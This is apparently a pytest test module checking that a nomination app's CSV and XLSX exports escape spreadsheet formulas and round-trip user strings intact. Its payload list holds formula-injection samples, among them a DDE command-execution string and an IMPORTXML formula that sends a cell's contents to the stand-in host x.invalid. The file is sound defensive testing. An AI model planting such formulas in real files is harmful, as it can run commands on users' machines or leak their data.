"""Every file that leaves the house: no cell of it is run by a spreadsheet program, and none is changed."""

from __future__ import annotations

import csv
import io
import random
import re
import unicodedata
import zipfile
from typing import Any

import openpyxl
import pytest

from foundation.accounts.models import Country, User
from foundation.outbox import relay
from tests.support.classes import a_class, a_person
from tests.support.people import Caller, key
from tests.support.sizes import Size
from tests.vetting.browsing import Browser
from tests.vetting.test_imports import a_form, line
from vetting import imports
from vetting.actions import checks
from vetting.intake.out import safe_csv
from vetting.models import Nomination

pytestmark = pytest.mark.django_db(transaction=True)

# How a cell begins that Excel, LibreOffice or Google Sheets may run; written here again, and not taken from
# what is tested.
RUNS = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
PAYLOADS = (
    "=1+1 Ana", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x.invalid","Ana")', "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1 Ana", "-1+1 Ana", "-Ana", "'=1+1 Ana", "''=1 Ana", "\uff1d1+1 Ana", "\uff20SUM(A1) Ana", "'Ana",
    '=IMPORTXML(CONCAT("http://x.invalid/",A1),"//a")', "=1+1,Ana", "=1+1;Ana", '="Ana"', "Ana =1+1",
)  # fmt: skip
PIECES = (
    *PAYLOADS, "=", "+", "-", "@", "'", '"', ",", ";", "|", "\\", " ", "  ", "\u00a0", "ي", "محمد", "Ж", "ß",
    "é", "\U0001f600", "\u200f", "\u200d", "0042", "1E5", "007", "<b>", "&amp;", "sep=;", "#N/A", "TRUE",
)  # fmt: skip


@pytest.fixture
def jana(people: dict[str, User]) -> Caller:
    return Caller(people["nominator"])


def cells_of(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert "attachment" in response["Content-Disposition"]
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def running(cells: list[list[str]]) -> list[str]:
    return [cell for row in cells for cell in row if RUNS.match(cell)]


def payload(number: int) -> str:
    """Each with a number of its own, so that no two people share a name."""
    return f"{PAYLOADS[number % len(PAYLOADS)]} {number}a"


# --- formulas ---


def test_no_cell_of_a_csv_that_leaves_is_run(people: dict[str, User], jana: Caller, size: Size) -> None:
    names = [payload(number) for number in range(size("cells of formulas", gate=18, full=500))]
    rows = [a_person(n, name={"full": name}, rank=payload(n)) for n, name in enumerate(names, start=1)]
    body = a_class(rows, by=jana.user, reference="=1+1")
    answer = jana.post("nominations/", body, **key())
    assert answer.status_code == 201, answer.content[:500]
    nomination = Nomination.objects.get()
    for response in (
        jana.get(f"nominations/{nomination.pk}/results.csv"),
        Browser(jana.user).client.get(f"/nominations/{nomination.pk}/results.csv"),
    ):
        cells = cells_of(response)
        assert running(cells) == []
        assert [unescaped(row[2]) for row in cells[1:]][: len(names)] == names
    relay.drain()
    for _ in names[:50]:
        checks.claim_next(by=people["section"])
    cells = cells_of(Caller(people["section"]).get("checks/mine.csv"))
    assert running(cells) == []
    assert {unescaped(cell) for row in cells for cell in row} & set(names)


def unescaped(cell: str) -> str:
    """As a person would undo it."""
    return cell[1:] if re.match(r"'+[=+\-@\uff1d\uff0b\uff0d\uff20]", cell) else cell


def test_no_cell_of_the_template_is_run(jana: Caller) -> None:
    """It holds names of countries, which are data; a list of choices refers to a range, and to no other."""
    Country.objects.filter(code="XA").update(name='=HYPERLINK("http://x.invalid")')
    for content in (
        jana.get("nominations/template.xlsx").content,
        Browser(jana.user).client.get("/nominations/template.xlsx").content,
    ):
        book = openpyxl.load_workbook(io.BytesIO(content))
        kinds = {cell.data_type for page in book for row in page.iter_rows() for cell in row if cell.value}
        assert kinds == {"s"}
        shown = [cell.value for row in book["Codes"].iter_rows() for cell in row]
        assert '=HYPERLINK("http://x.invalid")' in shown
        parts = zipfile.ZipFile(io.BytesIO(content))
        xml = b"".join(parts.read(name) for name in parts.namelist())
        assert not re.search(rb"<f[ >]|externalLink|vbaProject|TargetMode=.External", xml)
    assert running(cells_of(jana.get("nominations/template.csv"))) == []


# --- there and back ---


def test_refused_rows_come_back_with_the_very_strings(
    people: dict[str, User], jana: Caller, size: Size, seed: int
) -> None:
    """Sent, refused for a gender, fetched, sent again: the worker reads what was sent the first time."""
    chance = random.Random(seed)
    said = [a_string(chance) for _ in range(size("strings", gate=300, full=10_000))]
    rows = [line(n, rank=text, gender="nobody's") for n, text in enumerate(said, start=1)]
    first = fetched(jana, safe_csv(rows[0], (row.values() for row in rows)))
    assert running(first) == []
    at = first[0].index("rank")
    assert [row[at] for row in first[1:]] == [written(text) for text in said]
    again = fetched(jana, as_bytes(first))
    assert [row[: len(rows[0])] for row in again] == [row[: len(rows[0])] for row in first]
    assert Nomination.objects.count() == 0


def test_refused_rows_mended_are_saved_as_they_were_meant(jana: Caller, size: Size, seed: int) -> None:
    chance = random.Random(seed + 1)
    said = [a_string(chance) for _ in range(size("strings", gate=100, full=2_000))]
    rows = [line(n, rank=text, gender="nobody's") for n, text in enumerate(said, start=1)]
    refused = fetched(jana, safe_csv(rows[0], (row.values() for row in rows)))
    gender = refused[0].index("gender")
    mended = [refused[0], *([*row[:gender], "female", *row[gender + 1 :]] for row in refused[1:])]
    send(jana, as_bytes(mended))
    kept = Nomination.objects.get().candidates.order_by("row").values_list("rank", flat=True)
    assert list(kept) == [unicodedata.normalize("NFC", text).strip() for text in said]


def a_string(chance: random.Random) -> str:
    """Of anything that may be kept, with a letter in it."""
    text = "".join(chance.choice(PIECES) for _ in range(chance.randint(1, 4)))[:80]
    return text.strip() + "a"


def written(text: str) -> str:
    """As it must stand in a file: an apostrophe more, exactly where a program would run it."""
    return f"'{text}" if re.match(r"'*[=+\-@\uff1d\uff0b\uff0d\uff20]", text) else text


def as_bytes(cells: list[list[str]]) -> bytes:
    """As a spreadsheet program saves it."""
    text = io.StringIO()
    csv.writer(text).writerows(cells)
    return text.getvalue().encode()


def send(caller: Caller, content: bytes) -> dict[str, Any]:
    response = caller.send("nominations/import/", a_form(caller.user, content), **key())
    imports.run(response.json()["job"])
    job: dict[str, Any] = caller.get(response["Location"]).json()
    return job


def fetched(caller: Caller, content: bytes) -> list[list[str]]:
    job = send(caller, content)
    assert job["state"] == "refused"
    return cells_of(caller.get(f"jobs/{job['id']}/refused.csv"))
